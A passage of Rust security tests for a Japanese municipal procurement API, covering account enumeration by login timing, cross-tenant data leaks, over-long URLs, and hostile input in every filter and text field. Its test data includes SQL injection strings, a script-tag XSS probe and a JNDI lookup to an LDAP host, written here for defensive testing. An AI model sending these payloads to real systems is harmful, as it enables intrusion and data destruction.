//! Attacks from the OWASP API Security Top 10 that the other files do not cover, each a test:
//! telling accounts apart by login answers and timing, reading another body's private data through
//! any read endpoint, over-long request targets, and hostile text in every filter and text field.
//! The endpoints and filters come from the served API document, so a new one is attacked too.

use std::collections::{BTreeMap, BTreeSet};
use std::time::{Duration, Instant};

use actix_web::http::{Method, StatusCode};
use diesel::prelude::*;
use futures_util::StreamExt;
use serde_json::{Value, json};

use kyodo::db::schema::{
    api_tokens, calendar_feeds, console_sessions, refresh_tokens, users, webhook_endpoints,
};

use crate::helpers::{
    ADMIN_EMAIL, Response, TestApp, procurement_input, spawn_app, spawn_app_with,
};
use crate::receiver::Receiver;

const A: &str = "202011"; // 長野市
const B: &str = "202029"; // 松本市

// --- 1. Login: an unknown account and a wrong password look and take alike -----------------------

/// The headers of an answer, without those that differ on every request.
fn comparable_headers(response: &Response) -> BTreeMap<String, Vec<String>> {
    let mut headers: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for (name, value) in &response.headers {
        if matches!(name.as_str(), "date" | "x-request-id") {
            continue;
        }
        headers
            .entry(name.as_str().to_owned())
            .or_default()
            .push(String::from_utf8_lossy(value.as_bytes()).into_owned());
    }
    headers
}

fn median(mut samples: Vec<Duration>) -> Duration {
    samples.sort();
    samples[samples.len() / 2]
}

async fn timed_login(app: &TestApp, email: &str, password: &str) -> (Response, Duration) {
    let started = Instant::now();
    let response = app.login(email, password).await;
    (response, started.elapsed())
}

/// An unknown address, an invited account without a password yet, and a wrong password get the
/// same answer, byte for byte but for the request id and date, and take about as long: each
/// verifies an Argon2 hash. (Skipping the hash for unknown accounts makes that path some twenty
/// times faster, far outside the generous ratio allowed for a noisy machine.)
#[actix_web::test]
async fn unknown_accounts_and_wrong_passwords_answer_alike_and_take_as_long() {
    const ATTEMPTS: usize = 9;
    let app = spawn_app().await;
    let admin = app.admin_token().await;
    let invited = "invited.only@example.lg.jp";
    let created = app
        .post(
            "/api/v1/users",
            Some(&admin),
            json!({"email": invited, "display_name": "招待 中", "role": "viewer", "organization": A}),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.text);

    let password = "a wrong password of some length";
    let cases = [
        ("wrong password", ADMIN_EMAIL),
        ("unknown account", "nobody.here@example.lg.jp"),
        ("invited account", invited),
    ];
    // One round first: the dummy hash is made on first use.
    for (_, email) in cases {
        timed_login(&app, email, password).await;
    }
    let mut answers: Vec<Vec<Response>> = cases.iter().map(|_| Vec::new()).collect();
    let mut times: Vec<Vec<Duration>> = cases.iter().map(|_| Vec::new()).collect();
    // Interleaved, so that a slow moment of the machine falls on every case alike.
    for _ in 0..ATTEMPTS {
        for (i, (_, email)) in cases.iter().enumerate() {
            let (response, took) = timed_login(&app, email, password).await;
            answers[i].push(response);
            times[i].push(took);
        }
    }
    let reference = &answers[0][0];
    assert_eq!(
        reference.status,
        StatusCode::UNAUTHORIZED,
        "{}",
        reference.text
    );
    assert_eq!(reference.problem_code(), "invalid_login");
    for ((case, _), responses) in cases.iter().zip(&answers) {
        for response in responses {
            assert_eq!(
                response.status, reference.status,
                "{case}: {}",
                response.text
            );
            assert_eq!(response.text, reference.text, "{case}");
            assert_eq!(
                comparable_headers(response),
                comparable_headers(reference),
                "{case}"
            );
        }
    }
    let medians: Vec<Duration> = times.into_iter().map(median).collect();
    let summary: Vec<String> = cases
        .iter()
        .zip(&medians)
        .map(|((case, _), m)| format!("{case}: {m:?}"))
        .collect();
    println!("login medians of {ATTEMPTS}: {}", summary.join(", "));
    for (case, m) in cases.iter().zip(&medians).skip(1) {
        let ratio = m.as_secs_f64() / medians[0].as_secs_f64();
        assert!(
            (0.5..=2.0).contains(&ratio),
            "{} takes {ratio:.2} times as long as a wrong password: {}",
            case.0,
            summary.join(", ")
        );
    }
}

/// Throttling tells accounts apart no better: the fourth attempt on a known account and on an
/// unknown one get the same 429, with a `Retry-After`.
#[actix_web::test]
async fn throttling_looks_the_same_for_unknown_and_known_accounts() {
    let app = spawn_app_with(|config| config.login_attempts_per_account = 3).await;
    let mut throttled = Vec::new();
    for email in [ADMIN_EMAIL, "nobody.here@example.lg.jp"] {
        for _ in 0..3 {
            let response = app.login(email, "a wrong password of some length").await;
            assert_eq!(
                response.status,
                StatusCode::UNAUTHORIZED,
                "{}",
                response.text
            );
        }
        let response = app.login(email, "a wrong password of some length").await;
        assert_eq!(
            response.status,
            StatusCode::TOO_MANY_REQUESTS,
            "{}",
            response.text
        );
        assert_eq!(response.problem_code(), "too_many_requests");
        let wait: u64 = response
            .headers
            .get("retry-after")
            .expect("a Retry-After")
            .to_str()
            .unwrap()
            .parse()
            .unwrap();
        assert!((1..=60).contains(&wait), "{wait}");
        throttled.push(response);
    }
    let (known, unknown) = (&throttled[0], &throttled[1]);
    assert_eq!(known.text, unknown.text);
    let without_wait = |r: &Response| {
        let mut headers = comparable_headers(r);
        headers.remove("retry-after");
        headers
    };
    assert_eq!(without_wait(known), without_wait(unknown));
}

// --- 2. No answer carries another body's private data, nor any secret ----------------------------

/// Who calls, and which body's data it may read.
struct Caller {
    name: &'static str,
    token: String,
    /// The caller's own calendar feed secret and unsubscribe token.
    calendar: String,
    unsubscribe: String,
}

/// The world body A's private data lives in, and the values path and query parameters take.
struct Exposure {
    app: TestApp,
    receiver: Receiver,
    callers: Vec<Caller>,
    procurements: Vec<String>,
    rounds: Vec<String>,
    webhooks: Vec<String>,
    /// Body A's contacts and notes: for A and administrators only.
    private_to_a: Vec<String>,
    /// Never in any answer to anyone after it was first handed out: hashes and one-time secrets.
    secrets: Vec<String>,
}

async fn exposure() -> Exposure {
    let app = spawn_app_with(|config| config.webhook_allow_private = true).await;
    let (receiver, hooks) = Receiver::start();
    let admin = app.admin_token().await;
    let a_coordinator = app.user("coordinator", A).await;
    let a_viewer = app.user("viewer", A).await;
    let b_coordinator = app.user("coordinator", B).await;
    let b_viewer = app.user("viewer", B).await;

    // Body A's contacts, as the secretariat records them.
    let contacts = json!({"contacts": [{"name": "秘匿窓口アルファ", "department": "情報政策課ALPHA",
        "email": "alpha.window@secret-a.example.jp", "phone": "026-900-1111"}]});
    let path = format!("/api/v1/organizations/{A}");
    app.ok(Method::PATCH, &path, &admin, Some(contacts)).await;

    // An open round and a finalized one, both answered by A (privately) and by B.
    let open = app
        .published(
            &admin,
            procurement_input("共同調達 漏えい確認 募集中", json!({})),
        )
        .await;
    let finalized = app
        .published(
            &admin,
            procurement_input("共同調達 漏えい確認 確定", json!({})),
        )
        .await;
    let (open_round, final_round) = (
        app.open_round(&admin, &open).await,
        app.open_round(&admin, &finalized).await,
    );
    for round in [&open_round, &final_round] {
        let answer = json!({"status": "joined", "note": "内部メモALPHA-7731 予算未確定",
            "contact": {"name": "担当アルファ", "email": "alpha.contact@secret-a.example.jp", "phone": "026-900-2222"}});
        let path = format!("/api/v1/rounds/{round}/participations/{A}");
        app.ok(Method::PUT, &path, &a_coordinator.token, Some(answer))
            .await;
        let answer = json!({"status": "joined", "note": "松本市の備考",
            "contact": {"name": "担当ベータ", "email": "beta.contact@b.example.jp", "phone": "0263-00-0000"}});
        let path = format!("/api/v1/rounds/{round}/participations/{B}");
        app.ok(Method::PUT, &path, &b_coordinator.token, Some(answer))
            .await;
    }
    let path = format!("/api/v1/rounds/{final_round}/close");
    app.ok(Method::POST, &path, &admin, None).await;
    let totals = json!({"totals": [{"pool": "base", "fiscal_year": 2027, "amount": 1_000_000}]});
    let path = format!("/api/v1/rounds/{final_round}/finalize");
    app.ok(Method::POST, &path, &admin, Some(totals)).await;

    // A question by A, answered: its text is public, who asked is not.
    let path = format!("/api/v1/procurements/{open}/questions");
    let question = json!({"question": "LGWAN環境から利用できますか。"});
    let asked = app
        .ok(Method::POST, &path, &a_coordinator.token, Some(question))
        .await;
    let path = format!("/api/v1/questions/{}/answer", asked["id"].as_str().unwrap());
    let answer = json!({"answer": "利用できます。"});
    app.ok(Method::POST, &path, &admin, Some(answer)).await;

    // Each body's webhook, to the local receiver; A's address is A's business.
    let mut webhooks = Vec::new();
    let mut secrets = Vec::new();
    for (token, name) in [
        (&a_coordinator.token, "alpha-secret-hook"),
        (&b_coordinator.token, "beta-hook"),
    ] {
        let body = json!({"url": format!("{hooks}/{name}"), "events": ["*"]});
        let created = app
            .ok(Method::POST, "/api/v1/webhooks", token, Some(body))
            .await;
        webhooks.push(created["id"].as_str().unwrap().to_owned());
        secrets.push(created["secret"].as_str().unwrap().to_owned());
    }
    // A's API token and a pending invitation into A.
    let body = json!({"name": "集計スクリプト", "scope": "read_only"});
    let created = app
        .ok(
            Method::POST,
            "/api/v1/tokens",
            &a_coordinator.token,
            Some(body),
        )
        .await;
    secrets.push(created["token"].as_str().unwrap().to_owned());
    let pending = "alpha.pending@secret-a.example.jp";
    let body = json!({"email": pending, "display_name": "招待 アルファ", "role": "viewer"});
    app.ok(
        Method::POST,
        "/api/v1/users",
        &a_coordinator.token,
        Some(body),
    )
    .await;
    secrets.push(app.invitation_token(pending));

    let mut callers = Vec::new();
    for (name, token, email) in [
        ("admin", admin, ADMIN_EMAIL.to_owned()),
        (
            "coordinator of A",
            a_coordinator.token.clone(),
            a_coordinator.email.clone(),
        ),
        ("viewer of A", a_viewer.token, a_viewer.email),
        ("coordinator of B", b_coordinator.token, b_coordinator.email),
        ("viewer of B", b_viewer.token, b_viewer.email),
    ] {
        let created = app
            .ok(Method::POST, "/api/v1/me/calendar", &token, None)
            .await;
        let url = created["url"].as_str().unwrap();
        let calendar = url
            .rsplit('/')
            .next()
            .unwrap()
            .trim_end_matches(".ics")
            .to_owned();
        secrets.push(calendar.clone());
        let unsubscribe = app.state.unsubscribe.token(&email);
        callers.push(Caller {
            name,
            token,
            calendar,
            unsubscribe,
        });
    }
    // Every webhook delivery made, so that the deliveries endpoint has something to show.
    app.deliver().await;

    // Every hash the database holds.
    let mut conn = app.pool().get().unwrap();
    let user_hashes: Vec<(Option<String>, Option<String>)> = users::table
        .select((users::password_hash, users::invitation_token_hash))
        .load(&mut conn)
        .unwrap();
    for (password, invitation) in user_hashes {
        secrets.extend(password.into_iter().chain(invitation));
    }
    for hashes in [
        refresh_tokens::table
            .select(refresh_tokens::token_hash)
            .load::<String>(&mut conn),
        api_tokens::table
            .select(api_tokens::token_hash)
            .load(&mut conn),
        console_sessions::table
            .select(console_sessions::token_hash)
            .load(&mut conn),
        calendar_feeds::table
            .select(calendar_feeds::token_hash)
            .load(&mut conn),
        webhook_endpoints::table
            .select(webhook_endpoints::secret)
            .load(&mut conn),
    ] {
        secrets.extend(hashes.unwrap());
    }
    secrets.push("$argon2".to_owned());

    let private_to_a = [
        "秘匿窓口アルファ",
        "情報政策課ALPHA",
        "alpha.window@secret-a.example.jp",
        "026-900-1111",
        "担当アルファ",
        "alpha.contact@secret-a.example.jp",
        "026-900-2222",
        "内部メモALPHA-7731",
        "alpha-secret-hook",
        pending,
        &a_coordinator.email,
    ]
    .map(str::to_owned)
    .to_vec();
    drop(conn);
    Exposure {
        app,
        receiver,
        callers,
        procurements: vec![open, finalized],
        rounds: vec![open_round, final_round],
        webhooks,
        private_to_a,
        secrets,
    }
}

/// A GET operation of the API document: its path template and parameters.
struct Operation {
    path: String,
    path_parameters: Vec<String>,
    /// Each query parameter with the values its schema lists (an enumeration), if any.
    query_parameters: Vec<(String, Vec<String>)>,
}

/// The enumerated values of a parameter's schema, following a `$ref` into the components.
fn enumerated(document: &Value, schema: &Value) -> Vec<String> {
    let schema = match schema["$ref"].as_str() {
        Some(reference) => {
            let name = reference.rsplit('/').next().unwrap();
            &document["components"]["schemas"][name]
        }
        None => schema,
    };
    schema["enum"]
        .as_array()
        .map(|values| {
            values
                .iter()
                .filter_map(|v| v.as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

async fn operations(app: &TestApp, method: &str) -> Vec<Operation> {
    let document = app
        .request(Method::GET, "/api-docs/openapi.json", None, None)
        .await
        .body;
    let mut operations = Vec::new();
    for (path, item) in document["paths"]
        .as_object()
        .expect("the document lists paths")
    {
        let Some(operation) = item.get(method) else {
            continue;
        };
        let parameters = operation["parameters"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        let named = |place: &str| {
            parameters
                .iter()
                .filter(|p| p["in"] == place)
                .map(|p| {
                    (
                        p["name"].as_str().unwrap().to_owned(),
                        enumerated(&document, &p["schema"]),
                    )
                })
                .collect::<Vec<_>>()
        };
        operations.push(Operation {
            path: path.clone(),
            path_parameters: named("path").into_iter().map(|(name, _)| name).collect(),
            query_parameters: named("query"),
        });
    }
    assert!(operations.len() > 10, "the document lists the API");
    operations
}

impl Exposure {
    /// The values a path parameter takes: ids of both bodies' things. A parameter not named here
    /// fails the test, so that a new kind of endpoint gets its values.
    fn path_values(&self, path: &str, parameter: &str, caller: &Caller) -> Vec<String> {
        let under = |prefix: &str| path.starts_with(prefix);
        match parameter {
            "key" | "org" => vec![A.to_owned(), B.to_owned()],
            "id" if under("/api/v1/procurements/") => self.procurements.clone(),
            "id" if under("/api/v1/rounds/") => self.rounds.clone(),
            "id" if under("/api/v1/webhooks/") => self.webhooks.clone(),
            // Capabilities handed only to their holder: each caller uses its own.
            "token" if under("/api/v1/calendar/") => vec![caller.calendar.clone()],
            "token" if under("/api/v1/unsubscribe/") => vec![caller.unsubscribe.clone()],
            _ => panic!("no values for {{{parameter}}} of GET {path}: name some in path_values"),
        }
    }

    /// Extra query strings worth trying besides none: every listed value, and the other body or
    /// the finalized procurement where a parameter names one.
    fn query_values(&self, parameter: &str, listed: &[String]) -> Vec<String> {
        let values: Vec<String> = match parameter {
            "org" | "organization" => vec![A.to_owned(), B.to_owned()],
            "procurement" => self.procurements.clone(),
            "round" => self.rounds.clone(),
            "version" => vec!["1".to_owned()],
            _ => listed.to_vec(),
        };
        values
            .into_iter()
            .map(|v| format!("{parameter}={v}"))
            .collect()
    }

    /// Every request path (with its query) to try for `operation` as `caller`.
    fn requests(&self, operation: &Operation, caller: &Caller) -> Vec<String> {
        let mut paths = vec![operation.path.clone()];
        for parameter in &operation.path_parameters {
            let values = self.path_values(&operation.path, parameter, caller);
            paths = paths
                .iter()
                .flat_map(|path| {
                    values
                        .iter()
                        .map(move |value| path.replace(&format!("{{{parameter}}}"), value))
                })
                .collect();
        }
        let mut queries = vec![String::new()];
        for (parameter, listed) in &operation.query_parameters {
            queries.extend(self.query_values(parameter, listed));
        }
        paths
            .iter()
            .flat_map(|path| {
                queries.iter().map(move |query| match query.as_str() {
                    "" => path.clone(),
                    query => format!("{path}?{query}"),
                })
            })
            .collect()
    }
}

/// GETs `path`: the status and the body as text. A stream of server-sent events is read up to
/// its first event.
async fn read(app: &TestApp, path: &str, token: &str) -> (StatusCode, String) {
    let mut response = app
        .client
        .get(app.url(path))
        .bearer_auth(token)
        .send()
        .await
        .expect("the request reaches the service");
    let status = response.status();
    let streams = response
        .headers()
        .get("content-type")
        .is_some_and(|v| v.as_bytes().starts_with(b"text/event-stream"));
    if !streams {
        let body = response
            .body()
            .limit(16 * 1024 * 1024)
            .await
            .expect("a body");
        return (status, String::from_utf8_lossy(&body).into_owned());
    }
    let mut text = String::new();
    let first_event = async {
        while let Some(Ok(chunk)) = response.next().await {
            text.push_str(&String::from_utf8_lossy(&chunk));
            if text.contains("\n\n") {
                break;
            }
        }
    };
    let _ = actix_web::rt::time::timeout(Duration::from_secs(10), first_event).await;
    assert!(
        text.contains("event:"),
        "GET {path}: no first event in {text:?}"
    );
    (status, text)
}

/// Body B (its coordinator and its viewer) calls every GET operation of the API document with
/// the ids of both bodies' things, and finds none of body A's contacts, notes, webhook address or
/// users in any answer; nobody finds a password hash, a token's hash or a one-time secret in any
/// answer. Body A and the secretariat do see A's data, so the search is not vacuous; and every
/// operation answered someone with a success, so the ids fit. Webhook deliveries to B carry none of
/// A's data either.
#[actix_web::test]
async fn no_answer_carries_another_bodys_private_data_or_any_secret() {
    let world = exposure().await;
    let app = &world.app;
    let operations = operations(app, "get").await;
    let mut failures = Vec::new();
    let mut answered: BTreeSet<&str> = BTreeSet::new();
    let mut seen: BTreeMap<&str, BTreeSet<&str>> = BTreeMap::new();
    let mut requests = 0;
    for operation in &operations {
        for caller in &world.callers {
            for path in world.requests(operation, caller) {
                let (status, text) = read(app, &path, &caller.token).await;
                requests += 1;
                if status.is_server_error() {
                    failures.push(format!("{} GET {path}: {status} {text}", caller.name));
                }
                if status.is_success() {
                    answered.insert(&operation.path);
                }
                for secret in &world.secrets {
                    if text.contains(secret.as_str()) {
                        failures.push(format!(
                            "{} GET {path}: carries the secret {secret}",
                            caller.name
                        ));
                    }
                }
                for private in &world.private_to_a {
                    if text.contains(private.as_str()) {
                        seen.entry(caller.name).or_default().insert(private);
                        if caller.name.ends_with(" of B") {
                            failures.push(format!(
                                "{} GET {path}: carries A's {private}: {text}",
                                caller.name
                            ));
                        }
                    }
                }
            }
        }
    }
    for (to, who) in [
        ("beta-hook", "B's webhook"),
        ("alpha-secret-hook", "A's webhook"),
    ] {
        let bodies = world.receiver.bodies_to(to);
        assert!(!bodies.is_empty(), "{who} got deliveries");
        for body in bodies {
            for leak in world.secrets.iter().chain(if to == "beta-hook" {
                &world.private_to_a[..]
            } else {
                &[]
            }) {
                if body.contains(leak.as_str()) {
                    failures.push(format!("a delivery to {who} carries {leak}"));
                }
            }
        }
    }
    println!(
        "{requests} answers to {} GET operations searched",
        operations.len()
    );
    assert!(
        failures.is_empty(),
        "{} of {requests} answers leak:\n{}",
        failures.len(),
        failures.join("\n")
    );
    let unanswered: Vec<&str> = operations
        .iter()
        .map(|o| o.path.as_str())
        .filter(|path| !answered.contains(path))
        .collect();
    assert_eq!(
        unanswered,
        Vec::<&str>::new(),
        "operations that answered nobody with success"
    );
    let everything: BTreeSet<&str> = world.private_to_a.iter().map(String::as_str).collect();
    assert_eq!(
        seen.get("admin"),
        Some(&everything),
        "the secretariat sees all of A's data"
    );
    assert_eq!(
        seen.get("coordinator of A"),
        Some(&everything),
        "A's coordinator sees all of it"
    );
}

// --- 3. Over-long request targets ----------------------------------------------------------------

#[track_caller]
fn assert_problem(response: &Response, status: StatusCode, code: &str) {
    assert_eq!(response.status, status, "{}", response.text);
    assert_eq!(response.problem_code(), code, "{}", response.text);
}

/// A request target of 16 KiB, in the query or in the path, gets 414 `uri_too_long` as a problem
/// document, signed in or not; one within the limit is read as usual.
#[actix_web::test]
async fn an_over_long_request_target_gets_a_problem_document() {
    let app = spawn_app().await;
    let admin = app.admin_token().await;
    let long = "a".repeat(16 * 1024);
    for path in [
        format!("/api/v1/organizations?name={long}"),
        format!("/api/v1/organizations?page=1&{long}=1"),
        format!("/api/v1/procurements/{long}"),
    ] {
        for token in [Some(admin.as_str()), None] {
            let response = app.request(Method::GET, &path, token, None).await;
            assert_problem(&response, StatusCode::URI_TOO_LONG, "uri_too_long");
        }
    }
    let posted = app
        .post(&format!("/api/v1/auth/login?{long}"), None, json!({}))
        .await;
    assert_problem(&posted, StatusCode::URI_TOO_LONG, "uri_too_long");
    // Beyond what the HTTP layer parses (64 KiB), it answers a bare 400 itself; the connection
    // is not dropped without an answer.
    let port = app.port;
    let answer = actix_web::rt::task::spawn_blocking(move || {
        use std::io::{Read, Write};
        let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
        let target = format!("/api/v1/organizations?{}", "a".repeat(100 * 1024));
        let head = format!("GET {target} HTTP/1.1\r\nHost: kyodo\r\nConnection: close\r\n\r\n");
        stream.write_all(head.as_bytes()).unwrap();
        let mut answer = String::new();
        stream.read_to_string(&mut answer).unwrap();
        answer
    })
    .await
    .unwrap();
    assert!(answer.starts_with("HTTP/1.1 400 "), "{answer}");
    // Long, but within the limit: 1,000 kanji, percent-encoded (9 KiB), as the longest reason
    // may be, reach the handler, and the name filter's own rule answers.
    let within = format!("/api/v1/organizations?name={}", "%E9%95%B7".repeat(1000));
    let response = app.get(&within, &admin).await;
    assert_problem(
        &response,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    );
    assert_eq!(
        response.body["errors"][0]["field"], "name",
        "{}",
        response.text
    );
    assert_eq!(
        response.body["errors"][0]["message"],
        "name has 1 to 100 characters"
    );
}

/// Each string query parameter of a GET operation states its longest value in the API document;
/// one character more gets 422 naming the parameter.
#[actix_web::test]
async fn an_over_long_filter_value_gets_422_naming_the_parameter() {
    let world = exposure().await;
    let app = &world.app;
    let admin = &world.callers[0];
    let document = app
        .request(Method::GET, "/api-docs/openapi.json", None, None)
        .await
        .body;
    let mut checked = Vec::new();
    for operation in operations(app, "get").await {
        let path = world.requests(&operation, admin)[0].clone();
        let parameters = document["paths"][&operation.path]["get"]["parameters"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        for parameter in parameters.iter().filter(|p| p["in"] == "query") {
            let name = parameter["name"].as_str().unwrap();
            let schema = &parameter["schema"];
            let is_string = schema["type"] == "string"
                || schema["type"]
                    .as_array()
                    .is_some_and(|types| types.contains(&json!("string")));
            // A list of values says more than a length.
            if !is_string || schema.get("enum").is_some() {
                continue;
            }
            let Some(max) = schema["maxLength"].as_u64() else {
                panic!("GET {}?{name} states no maxLength", operation.path);
            };
            let value = "a".repeat(usize::try_from(max).unwrap() + 1);
            let response = app
                .get(&format!("{path}?{name}={value}"), &admin.token)
                .await;
            assert_problem(
                &response,
                StatusCode::UNPROCESSABLE_ENTITY,
                "validation_failed",
            );
            assert!(
                response.body["errors"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|e| e["field"] == name && e["code"] == "invalid_length"),
                "GET {path}?{name}: {}",
                response.text
            );
            checked.push(format!("{}?{name}", operation.path));
        }
    }
    assert!(checked.len() >= 15, "{checked:?}");
}

// --- 4. Injection strings and odd Unicode in every filter and text field -------------------------

/// What the service must do with a value in a text field.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Fate {
    /// Stored as the API document says: in NFC, trimmed.
    Stored,
    /// Refused with 422 and this field error code.
    Refused(&'static str),
}

fn hostile() -> Vec<(&'static str, String, Fate)> {
    use Fate::{Refused, Stored};
    let plain = |name, value: &str| (name, value.to_owned(), Stored);
    vec![
        plain("sql or", "' OR 1=1 --"),
        plain("sql drop", "\"; DROP TABLE participations; --"),
        plain("like percent", "%"),
        plain("like underscore", "_"),
        plain("backslash", "\\"),
        plain("like escapes", "100%_\\%"),
        plain("script", "<script>alert(1)</script>"),
        plain("jndi", "${jndi:ldap://203.0.113.1/a}"),
        plain("full-width", "ＡＢＣ１２３"),
        plain("half-width kana", "ｱｲｳｶﾞ"),
        plain("enclosed", "㈱信州"),
        plain("emoji zwj", "👩‍💻👨‍👩‍👧‍👦🇯🇵"),
        plain("lone combining mark", "\u{0301}"),
        plain("decomposed", "\u{304B}\u{3099}くと"),
        plain("surrounding space", "\u{3000} 前後の空白 \u{3000}"),
        (
            "nul",
            "a\u{0000}b".to_owned(),
            Refused("invalid_characters"),
        ),
        (
            "right-to-left override",
            "\u{202e}evil".to_owned(),
            Refused("invalid_characters"),
        ),
        (
            "right-to-left mark",
            "名前\u{200f}".to_owned(),
            Refused("invalid_characters"),
        ),
        ("very long", "あ".repeat(5000), Refused("invalid_length")),
    ]
}

/// What the API document says is stored: NFC, trimmed.
fn normalized(value: &str) -> String {
    use unicode_normalization::UnicodeNormalization;
    value.nfc().collect::<String>().trim().to_owned()
}

/// Every byte but the unreserved ones percent-encoded.
fn encoded(value: &str) -> String {
    value
        .bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                char::from(b).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// Words of database errors: no answer may show one.
const DATABASE_WORDS: &[&str] = &[
    "syntax error",
    "sqlite",
    "postgres",
    "diesel",
    "near \"",
    "unrecognized token",
    "invalid byte sequence",
    "no such table",
    "no such column",
    "relation \"",
    "database error",
    "panicked",
];

/// Why an answer is not a clean one, if it is not: a 5xx, an error that is not a problem
/// document with a code, or a database's words.
fn unclean(status: StatusCode, content_type: &str, text: &str) -> Option<String> {
    if status.is_server_error() {
        return Some(format!("{status}"));
    }
    if status.is_client_error() {
        let code = serde_json::from_str::<Value>(text)
            .ok()
            .and_then(|body| body["code"].as_str().map(str::to_owned));
        if content_type != "application/problem+json" || code.is_none_or(|c| c.is_empty()) {
            return Some(format!("{status} without a problem code"));
        }
    }
    let lower = text.to_lowercase();
    DATABASE_WORDS
        .iter()
        .find(|word| lower.contains(*word))
        .map(|word| format!("{status} says {word:?}"))
}

/// Every query parameter and every path parameter of every GET operation in the API document,
/// given each hostile value, as the secretariat and as a coordinator: never a 5xx, an error is a
/// problem document with a code, no database words; a name filter matches its wildcards literally;
/// and the tables are intact afterwards.
#[actix_web::test]
async fn hostile_values_in_every_parameter_answer_cleanly() {
    let world = exposure().await;
    let app = &world.app;
    let listed = format!("/api/v1/rounds/{}/participations", world.rounds[0]);
    let before = app.get(&listed, &world.callers[0].token).await;
    let mut failures = Vec::new();
    let mut requests = 0;
    for operation in operations(app, "get").await {
        for caller in &world.callers[..2] {
            let base = world.requests(&operation, caller)[0].clone();
            let (path, _) = base.split_once('?').unwrap_or((&base, ""));
            let mut targets = Vec::new();
            for (parameter, _) in &operation.query_parameters {
                for (name, value, _) in hostile() {
                    targets.push((
                        format!("{path}?{parameter}={}", encoded(&value)),
                        name,
                        value,
                        Some(parameter),
                    ));
                }
            }
            for parameter in &operation.path_parameters {
                let real = &world.path_values(&operation.path, parameter, caller)[0];
                let template = operation.path.replace(&format!("{{{parameter}}}"), "\u{1}");
                let filled = world.requests(
                    &Operation {
                        path: template,
                        path_parameters: operation.path_parameters.clone(),
                        query_parameters: Vec::new(),
                    },
                    caller,
                )[0]
                .clone();
                assert!(filled.contains('\u{1}'), "{filled} ({real})");
                for (name, value, _) in hostile() {
                    targets.push((filled.replace('\u{1}', &encoded(&value)), name, value, None));
                }
            }
            for (target, name, value, parameter) in targets {
                let response = app
                    .request(Method::GET, &target, Some(&caller.token), None)
                    .await;
                requests += 1;
                if let Some(why) = unclean(response.status, response.content_type(), &response.text)
                {
                    failures.push(format!(
                        "{} GET {} with {name}: {why}: {}",
                        caller.name, operation.path, response.text
                    ));
                }
                // A name filter matches what it says, wildcards and all.
                if parameter.is_some_and(|p| p == "name") && response.status.is_success() {
                    let wanted = normalized(&value).to_lowercase();
                    for item in response.body["items"].as_array().unwrap() {
                        let names = format!("{} {}", item["name"], item["romaji"]).to_lowercase();
                        if !names.contains(&wanted) {
                            failures.push(format!("GET {target} ({name}) matches {names}"));
                        }
                    }
                }
            }
        }
    }
    assert!(requests > 1000, "{requests} requests");
    assert!(
        failures.is_empty(),
        "{} of {requests} answers are not clean:\n{}",
        failures.len(),
        failures.join("\n")
    );
    let after = app.get(&listed, &world.callers[0].token).await;
    assert_eq!(after.status, StatusCode::OK, "{}", after.text);
    assert_eq!(after.body, before.body);
}

/// A text field the tests write and read back.
#[derive(Debug, Clone, Copy)]
enum Field {
    ProcurementTitle,
    ProcurementSummary,
    Question,
    Note,
    ContactName,
    ContactEmail,
    ContactPhone,
    UserName,
    TokenName,
    OrganizationContactName,
}

impl Field {
    const ALL: [Field; 10] = [
        Field::ProcurementTitle,
        Field::ProcurementSummary,
        Field::Question,
        Field::Note,
        Field::ContactName,
        Field::ContactEmail,
        Field::ContactPhone,
        Field::UserName,
        Field::TokenName,
        Field::OrganizationContactName,
    ];

    /// Whether the field has a format of its own (an e-mail address, a phone number), which
    /// may refuse even harmless text.
    fn has_format(self) -> bool {
        matches!(self, Field::ContactEmail | Field::ContactPhone)
    }
}

/// The world the text fields live in.
struct Texts {
    app: TestApp,
    admin: String,
    coordinator: String,
    draft: String,
    procurement: String,
    round: String,
}

impl Texts {
    fn participation(&self) -> String {
        format!("/api/v1/rounds/{}/participations/{A}", self.round)
    }

    /// Sends `value` in `field`.
    async fn send(&self, field: Field, value: &str) -> Response {
        let app = &self.app;
        let participation = self.participation();
        let answer = |extra: Value| {
            let mut body = json!({"status": "joined"});
            for (k, v) in extra.as_object().unwrap() {
                body[k] = v.clone();
            }
            app.request(
                Method::PUT,
                &participation,
                Some(&self.coordinator),
                Some(body),
            )
        };
        let draft = format!("/api/v1/procurements/{}", self.draft);
        match field {
            Field::ProcurementTitle => {
                app.patch(&draft, &self.admin, json!({"title": value}))
                    .await
            }
            Field::ProcurementSummary => {
                app.patch(&draft, &self.admin, json!({"summary": value}))
                    .await
            }
            Field::Question => {
                let path = format!("/api/v1/procurements/{}/questions", self.procurement);
                app.post(&path, Some(&self.coordinator), json!({"question": value}))
                    .await
            }
            Field::Note => answer(json!({"note": value})).await,
            Field::ContactName => answer(json!({"contact": {"name": value}})).await,
            Field::ContactEmail => answer(json!({"contact": {"email": value}})).await,
            Field::ContactPhone => answer(json!({"contact": {"phone": value}})).await,
            Field::UserName => {
                let email = format!("hostile.{}@example.lg.jp", uuid::Uuid::new_v4().simple());
                let body = json!({"email": email, "display_name": value, "role": "viewer", "organization": A});
                app.post("/api/v1/users", Some(&self.admin), body).await
            }
            Field::TokenName => {
                let body = json!({"name": value, "scope": "read_only"});
                app.post("/api/v1/tokens", Some(&self.coordinator), body)
                    .await
            }
            Field::OrganizationContactName => {
                let body = json!({"contacts": [{"name": value}]});
                app.patch(&format!("/api/v1/organizations/{A}"), &self.admin, body)
                    .await
            }
        }
    }

    /// What a failed request must leave unchanged: the state the field lives in.
    async fn state(&self, field: Field) -> Value {
        let app = &self.app;
        let path = match field {
            Field::ProcurementTitle | Field::ProcurementSummary => {
                format!("/api/v1/procurements/{}", self.draft)
            }
            Field::Question => format!("/api/v1/procurements/{}/questions", self.procurement),
            Field::Note | Field::ContactName | Field::ContactEmail | Field::ContactPhone => {
